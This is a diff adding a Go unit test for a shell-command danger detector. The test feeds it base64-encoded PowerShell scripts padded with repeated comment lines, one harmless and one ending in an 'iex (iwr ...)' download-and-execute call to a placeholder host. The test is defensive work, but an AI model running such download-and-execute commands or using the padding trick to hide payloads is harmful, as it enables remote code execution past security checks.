@@ -163,3 +163,16 @@ func TestSensitivePathAzure(t *testing.T) {
 		}
 	}
 }
+
+// TestShellDangerLongEncodedScript: a script longer than the command
+// regexp's window is decoded whole: harmless, or padded to push its
+// download out of sight.
+func TestShellDangerLongEncodedScript(t *testing.T) {
+	pad := strings.Repeat("# credential store helper\n", 400)
+	if m := ShellDanger("powershell.exe -NoProfile -EncodedCommand " + encodePS(pad+"[Cred]::Read('x')")); m != "" {
+		t.Errorf("harmless long script: %q", m)
+	}
+	if m := ShellDanger("powershell.exe -NoProfile -EncodedCommand " + encodePS(pad+"iex (iwr https://x.invalid/p)")); m == "" {
+		t.Error("padded download not found")
+	}
+}
